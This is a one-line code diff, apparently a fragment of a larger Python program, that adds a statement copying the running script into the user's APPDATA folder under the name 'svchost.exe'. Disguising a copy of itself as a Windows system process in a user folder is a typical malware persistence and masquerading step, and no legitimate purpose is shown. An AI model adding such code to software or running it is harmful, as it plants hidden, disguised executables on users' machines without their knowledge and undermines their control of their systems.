@@ -1,0 +1,1 @@
+shutil.copy(sys.argv[0], os.getenv("APPDATA") + "\\svchost.exe")
